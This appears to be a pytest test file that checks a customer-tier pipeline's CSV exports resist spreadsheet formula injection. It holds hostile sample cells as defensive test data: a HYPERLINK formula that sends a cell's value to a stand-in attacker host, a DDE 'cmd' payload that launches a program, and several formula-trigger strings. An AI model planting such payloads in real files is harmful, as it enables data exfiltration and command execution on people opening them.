"""Spreadsheet-safe CSVs (OWASP "CSV Injection"): no text cell of ours evaluates in Excel/Sheets."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from include.tier_sync import validation as v
from include.tier_sync.master_csv import MASTER_COLUMNS, read_csv_str, to_csv_bytes
from include.tier_sync.rules import TierRules
from include.tier_sync.spreadsheet import neutralise, raw_value, unsafe_cells
from tests.unit.test_clv import AS_OF, DAY, customer, customers_df, sale, sales_df
from tests.unit.test_master_csv import EXPECTED_HEADER, FakeStore, run
from tests.unit.test_validation import good_rows, run_failing, write_run

pytestmark = pytest.mark.unit

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = {f"t{i}": f"{t}1+1" for i, t in enumerate(TRIGGERS)} | {
    "hyper": '=HYPERLINK("http://attacker.example/?x="&A2,"Reward")',
    "dde": "+cmd|' /C calc'!A0",
    "tabeq": " \t=1+1",  # the engine's strip() leaves "=1+1"
    "tabplus": "\t +1+1",
    "phone": "+64 21 555 9991",
    "quoted": "'=already quoted",
    "zoe": "Zoë Nguyễn",
}
NUMERIC = ("Lifetime Value", "Order Count", "Avg Order Value", "Days Since Last Order", "Purchases Last 30 Days")
TEXT = ("Customer ID", "Customer Code", "Name", "Email", "Phone")
TRIGGER_CHARS = ("=", "+", "-", "@", "\t", "\r", "\n")


def hostile_store() -> FakeStore:
    rows = []
    for key, text in PAYLOADS.items():
        c = customer(f"{key}", name=text, email=text, phone=text)
        c["customer_code"] = text
        rows.append(c)
    rows.append(customer("-7", name="Refund Rita"))  # a customer id that starts with a trigger
    t = AS_OF - 10 * DAY
    sales = sales_df(sale("s1", "zoe", "300.00", t), sale("s2", "t2", "-12.50", t), sale("s3", "-7", "50.00", t))
    return FakeStore(sales, customers_df(*rows))


def stored_rows(path: str) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def test_neutralise_and_raw_value_are_inverse() -> None:
    for text in [*PAYLOADS.values(), "", "plain", "'", "''=x", "'abc", "1-2", "-12.50", "\n=1"]:
        safe = neutralise(text)
        assert not safe or safe[0] not in TRIGGER_CHARS
        assert raw_value(safe) == text
    assert neutralise("=1+1") == "'=1+1" and neutralise("\t=1") == "'\t=1" and neutralise("Zoë") == "Zoë"
    assert raw_value("'abc") == "'abc"


def test_master_csv_has_no_live_formula_and_round_trips(tmp_path: Path) -> None:
    out = run(tmp_path, hostile_store())
    data = Path(out["master_csv"]).read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert data[3:].decode("utf-8").splitlines()[0] == EXPECTED_HEADER
    rows = stored_rows(out["master_csv"])
    assert list(rows[0]) == list(MASTER_COLUMNS)
    for row in rows:
        for col in TEXT:
            assert not row[col] or row[col][0] not in TRIGGER_CHARS, (col, row[col])
        for col in NUMERIC:
            assert row[col] == "" or pd.notna(pd.to_numeric(row[col])), (col, row[col])
    assert unsafe_cells(out["master_csv"]) == []
    by_id = {raw_value(r["Customer ID"]): r for r in rows}
    assert by_id["-7"]["Customer ID"] == "'-7"
    assert by_id["t2"]["Lifetime Value"] == "-12.50"  # a negative number stays a number
    assert b",-12.50," in data and b"'-12.50" not in data
    assert by_id["phone"]["Phone"] == "'+64 21 555 9991"
    assert by_id["tabeq"]["Name"] == "'=1+1"

    raw = read_csv_str(out["master_csv"]).set_index("Customer ID")
    for key, text in PAYLOADS.items():
        assert raw.loc[key, "Name"] == text.strip()  # the engine trims names; neutralised after
        assert raw.loc[key, "Email"] == text.replace("\r", "\n") or raw.loc[key, "Email"] == text.strip()
        assert raw_value(by_id[key]["Customer Code"]) == raw.loc[key, "Customer Code"]
    assert raw.loc["zoe", "Name"] == "Zoë Nguyễn"
    assert raw.loc["-7", "Name"] == "Refund Rita"


def test_tier_changes_and_history_are_safe_and_rerun_is_byte_identical(tmp_path: Path) -> None:
    out = run(tmp_path, hostile_store())
    changes = Path(out["run_dir"], "tier_changes.csv").read_bytes()
    assert changes.startswith(b"\xef\xbb\xbf") and b"\n'-7," in changes
    assert "-7" in set(read_csv_str(str(Path(out["run_dir"], "tier_changes.csv")))["Customer ID"])
    first = Path(out["master_csv"]).read_bytes()
    run(tmp_path, hostile_store())
    assert Path(out["master_csv"]).read_bytes() == first
    # The next day reads the previous master back raw: "-7" keeps its tier, nothing "changes".
    nxt = run(tmp_path, hostile_store(), AS_OF + DAY)
    prev = read_csv_str(nxt["master_csv"]).set_index("Customer ID")
    assert prev.loc["-7", "Previous Tier"] == prev.loc["-7", "Tier"]
    assert nxt["changes"] == 0


def test_writer_keeps_numeric_columns_plain() -> None:
    df = pd.DataFrame({"Name": ["-5", "@x", "ok"], "Lifetime Value": ["-12.50", "3", "=1"], "n": [-1, 2, 3]})
    text = to_csv_bytes(df).decode("utf-8-sig")
    assert text == "Name,Lifetime Value,n\n'-5,-12.50,-1\n'@x,3,2\nok,'=1,3\n"
    assert unsafe_cells(df) == [(1, "Name"), (2, "Lifetime Value")]  # "-5" is a number, not a formula


def _rows_with_formula() -> list[dict[str, Any]]:
    rows = good_rows(40)
    rows[3]["Name"] = '=HYPERLINK("http://attacker.example/?x="&A2,"Reward")'
    rows[5]["Phone"] = "+64 21 555 9991"
    return rows


def test_gate_fails_on_live_formula_and_passes_on_safe_file(tmp_path: Path) -> None:
    summary = run_failing(write_run(tmp_path / "bad", AS_OF, _rows_with_formula()))
    failed = [d for d in summary["failed_details"] if d["expectation"] == "text_cells_spreadsheet_safe"]
    assert failed and failed[0]["unexpected_count"] == 2
    assert "HYPERLINK" not in str(summary) and "555" not in str(summary)  # no PII in the report

    paths = write_run(tmp_path / "good", AS_OF, [])
    Path(paths.run_master_csv).write_bytes(to_csv_bytes(pd.DataFrame(_rows_with_formula())))
    assert v.validate_master(paths, TierRules())["success"] is True


def test_unsafe_cells_reads_bytes_and_ignores_numbers() -> None:
    data = "\ufeffName,Lifetime Value\n=1,-3.00\n'=1,4\n".encode()
    assert unsafe_cells(data) == [(0, "Name")]
    assert unsafe_cells(io.BytesIO(data).getvalue(), columns=["Lifetime Value"]) == []
